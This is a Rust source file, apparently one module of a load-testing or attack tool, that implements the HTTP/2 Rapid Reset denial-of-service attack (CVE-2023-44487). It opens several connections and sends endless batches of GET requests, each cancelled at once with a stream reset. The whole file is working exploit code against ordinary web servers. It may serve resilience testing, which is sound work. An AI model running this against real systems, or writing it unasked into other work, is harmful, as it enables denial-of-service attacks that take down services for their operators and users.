//! Requests over HTTP/2 that are taken back in the same breath, over and over (CVE-2023-44487).

use std::time::Duration;

use async_trait::async_trait;
use tokio::io::AsyncWriteExt as _;
use tokio::time::timeout;

use crate::overload::attack::{Attack, Attackers, SHORT, drain};
use crate::overload::frames::{get, preface, reset, stream as id};

const CONNECTIONS: usize = 8;
/// That are sent at once.
const REQUESTS: u32 = 100;
/// Between two times.
const TURN: Duration = Duration::from_millis(10);

pub(crate) struct RapidResets;

#[async_trait]
impl Attack for RapidResets {
    async fn run(&self, by: Attackers) {
        let begun = async |by: Attackers, number| {
            let mut stream = by.connect(number).await?;
            stream.write_all(&preface(None)).await?;
            let path = &by.target.authorize;
            for round in 0.. {
                let numbers = REQUESTS * round..REQUESTS * (round + 1);
                let both = |n| [get(id(n), &by.target.authority, path), reset(id(n))].concat();
                stream.write_all(&numbers.flat_map(both).collect::<Vec<u8>>()).await?;
                by.sent(REQUESTS.into());
                if let Ok(ended) = timeout(TURN, drain(&mut stream)).await {
                    return ended;
                }
            }
            Ok(())
        };
        by.many(CONNECTIONS, SHORT, begun).await;
    }
}
